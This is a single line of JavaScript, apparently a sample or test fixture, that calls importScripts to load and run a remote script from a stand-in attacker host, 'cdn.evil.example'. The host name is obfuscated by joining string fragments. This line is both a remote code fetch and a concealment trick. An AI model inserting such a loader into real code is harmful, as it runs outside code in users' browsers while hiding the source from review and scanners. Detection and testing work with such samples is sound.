importScripts(`https://cdn.${['ev', 'il'].join('')}.example/w.js`);
